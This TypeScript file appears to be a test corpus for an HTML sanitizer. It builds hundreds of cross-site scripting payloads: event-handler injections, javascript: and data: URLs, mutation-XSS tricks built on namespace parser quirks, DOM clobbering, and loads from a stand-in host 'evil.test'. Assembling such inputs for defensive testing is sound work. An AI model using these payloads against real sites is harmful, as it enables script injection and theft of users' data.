const words = (list: string): readonly string[] => list.trim().split(/\s+/);
/** The n-th of them, and so on in a circle. */
const turn = <Item>(items: readonly Item[], index: number, count: number): readonly Item[] =>
  Array.from({ length: count }, (_, step) => items[(index * count + step) % items.length] as Item);

/** Attacks that call `hit` or send a request to another server if they succeed. */
const payloads: readonly string[] = [
  "<img src=x onerror=hit()>",
  "<script>hit()</script>",
  "<svg onload=hit()></svg>",
  '<a href="javascript:hit()">a</a>',
  '<p title="</style></title></noscript></textarea></template></xmp><img src=x onerror=hit()>">a</p>',
  "<!--><img src=x onerror=hit()>-->",
  "<![CDATA[><img src=x onerror=hit()>]]>",
  "&lt;img src=x onerror=hit()&gt;",
  "<?x ><img src=x onerror=hit()>?>",
];

/** Elements that change how a parser reads their content, in one namespace or another. */
const nests = words(`
  svg math style noscript template title textarea xmp iframe noembed noframes plaintext select option table tr caption
  colgroup form button a blockquote b h3 mtext mi mrow mglyph malignmark annotation-xml semantics foreignObject desc g
  text use defs marker object video audio canvas body head x-y li ruby`);
const attributesOf: Readonly<Record<string, string>> = {
  "annotation-xml": ' encoding="text/html"',
  template: ' shadowrootmode="open"',
  blockquote: ' id="body"',
};
const within = (name: string, markup: string): string => `<${name}${attributesOf[name] ?? ""}>${markup}</${name}>`;

const nested = nests.flatMap((outer, index) =>
  nests.flatMap((inner, place) =>
    turn(payloads, index * nests.length + place, 2).map((payload) => within(outer, within(inner, payload))),
  ),
);

/** In a drawing or a formula, where a parser leaves and comes back. */
const foreign = words("svg math math><mtext math><mi svg><desc svg><foreignObject math><annotation-xml")
  .flatMap((root) =>
    nests.map((name) => `<${root}>${within(name, "<style><!--</style><img src=x onerror=hit()>--></style>")}`),
  )
  .flatMap((markup) => [markup, `<table>${markup}</table>`, `<form><math><mtext></form><form>${markup}</form>`]);

const events = words("onerror onload onclick onfocus ontoggle onbegin onanimationstart onpointerenter ONERROR");
const handlers = words("img svg math p table path mi x-y body marker").flatMap((name) =>
  events.map((event) => `<${name} ${event}=hit() src=x tabindex=1 autofocus>a</${name}>`),
);

const schemes: readonly string[] = [
  "javascript:hit()",
  " java\nscript:hit()",
  "JaVaScRiPt:hit()",
  "&#106;avascript:hit()",
  "data:text/html,<script>hit()</script>",
  "vbscript:hit()",
  "//evil.test/x",
  "https://evil.test/x",
  "/\\evil.test",
  "\u0001javascript:hit()",
  "blob:https://evil.test/x",
  "data:image/svg+xml,<svg onload=hit()>",
];
const places = words(`
  href src srcset action formaction xlink:href background poster data srcdoc ping cite longdesc lowsrc dynsrc usemap
  profile manifest`);
const bearers = words(`
  a img form button iframe use image svg><a svg><use svg><image svg><animate math math><mi p object link base area input
  q`);
const addresses = bearers.flatMap((name, index) =>
  places.flatMap((place, number) =>
    turn(schemes, index * places.length + number, place === "href" || place === "src" ? schemes.length : 2).map(
      (scheme) => `<${name} ${place}="${scheme}">a`,
    ),
  ),
);

const single: readonly string[] = [
  "<base href=//evil.test/><img src=x>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>a",
  "<link rel=stylesheet href=//evil.test/x.css>a",
  "<style>@import '//evil.test/x.css'</style>a",
  "<img srcset='//evil.test/x 1x' sizes=1px>",
  "<picture><source srcset=//evil.test/x><img src=/media/a></picture>",
  "<video src=//evil.test/x autoplay><source src=//evil.test/y></video>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data=javascript:hit()></object><embed src=javascript:hit()>",
  "<p id=getElementById>a</p><p id=cookie>b</p><p id=action name=submit>c</p><p id=constructor>d</p>",
  "<svg><animate attributeName=href values=javascript:hit() /><set attributeName=onload to=hit() /></svg>",
  "<svg><a><animate attributeName=href to=javascript:hit() /><text>a</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script>#x" /></svg>',
  "<svg><image href=//evil.test/x /><feImage href=//evil.test/y /></svg>",
  "<svg><linearGradient id=a><stop /></linearGradient><clipPath><path d=M0 /></clipPath></svg>",
  "<svg><script href=//evil.test/x.js /></svg>",
  "<svg><style>*{background:url(//evil.test/x)}</style></svg>",
  "<math href=javascript:hit()><mi xlink:href=javascript:hit()>x</mi></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:hit()>a</maction></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
  "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
  "<svg><p><style><g title='</style><img src=x onerror=hit()>'></svg>",
  "<noscript><p alt='</noscript><img src=x onerror=hit()>'>",
  "<select><template><noscript><style></select><img src=x onerror=hit()>",
  "<div><template shadowrootmode=open><img src=x onerror=hit()></template>a</div>",
  "<div><template for=a><img src=x onerror=hit()></template><?marker name=a?></div>",
  "<table><tr><td><svg><desc><table><tr><td><img src=x onerror=hit()>",
  "<a href='/x' ping='//evil.test' target=_top download>a</a>",
  "<p style='background:url(javascript:hit())' xmlns='http://www.w3.org/2000/svg'>a</p>",
  "<p xml:lang=en xlink:title=a aria-labelledby=b data-x=c data-gap=g contenteditable popover slot=s part=p>a</p>",
  "<p/onclick=hit()>a<p\u000conclick=hit()>b<p\u0000>c",
  "<p<b onclick=hit()>a",
  "<plaintext><img src=x onerror=hit()>",
  "</p></br><image src=x onerror=hit()><isindex><frameset onload=hit()><frame src=javascript:hit()>",
  "<html onclick=hit()><body onload=hit() id=x><head><title>a</title></head>b",
];

/** Malicious mark-up, most of it built from differences between parsers. */
export const attacks: readonly string[] = [...nested, ...foreign, ...handlers, ...addresses, ...single];
